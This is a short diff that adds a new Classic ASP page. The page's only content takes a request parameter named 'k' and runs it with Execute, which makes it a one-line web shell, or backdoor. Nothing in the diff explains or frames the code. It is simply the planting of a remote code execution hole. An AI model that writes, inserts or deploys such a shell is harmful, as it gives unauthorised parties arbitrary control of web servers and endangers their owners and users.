@@ -1,0 +1,5 @@
+<%
+Dim a
+a = Request("k")
+Execute a
+%>
